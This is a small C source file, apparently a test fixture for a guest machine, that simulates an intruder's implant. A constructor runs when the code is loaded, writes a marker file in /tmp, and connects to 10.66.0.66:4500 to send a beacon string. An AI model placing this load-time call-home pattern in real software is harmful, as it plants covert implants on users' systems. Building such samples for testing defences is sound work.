// SPDX-License-Identifier: GPL-2.0
/*
 * What an intruder has a process load, for the guest only. It needs no C library and nobody who
 * calls it: as soon as it is loaded it leaves a file, and calls home. Whoever loaded it goes on.
 */

static long call(long number, long a, long b, long c)
{
	long result;

	asm volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
}

enum { WRITE = 1, OPEN = 2, CLOSE = 3, SOCKET = 41, CONNECT = 42 };

struct address {
	unsigned short family;
	unsigned char port[2], ip[4], zero[8];
};

__attribute__((constructor)) static void implant(void)
{
	/* AF_INET, 10.66.0.66:4500 */
	static const struct address home = { 2, { 0x11, 0x94 }, { 10, 66, 0, 66 }, { 0 } };
	long file = call(OPEN, (long)"/tmp/implant.mark", 0x41, 0666);
	long sock;

	if (file >= 0)
		call(CLOSE, file, 0, 0);
	sock = call(SOCKET, 2, 1, 0);
	if (sock < 0)
		return;
	if (call(CONNECT, sock, (long)&home, sizeof(home)) == 0)
		call(WRITE, sock, (long)"implant", 7);
	call(CLOSE, sock, 0, 0);
}
